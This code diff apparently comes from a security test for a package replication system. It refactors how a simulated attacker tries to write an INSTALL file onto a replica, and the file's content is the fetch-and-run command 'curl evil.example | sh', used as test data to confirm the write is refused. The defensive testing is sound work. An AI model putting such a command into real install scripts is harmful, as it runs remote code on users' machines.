@@ -57,9 +57,8 @@ int main() {
   world.Run();
   Status attack = Unavailable("bind failed");
   if (bound != nullptr) {
-    auto invocation = gdn::pkg::AddFile("INSTALL", ToBytes("curl evil.example | sh\n"));
-    bound->Invoke(invocation.method, invocation.args, false,
-                  [&](Result<Bytes> r) { attack = r.ok() ? OkStatus() : r.status(); });
+    bound->Call(gdn::pkg::kAddFile, {"INSTALL", ToBytes("curl evil.example | sh\n")},
+                [&](Result<sim::EmptyMessage> r) { attack = r.status(); });
     world.Run();
   }
   Report("attacker write invocation on the replica", attack);
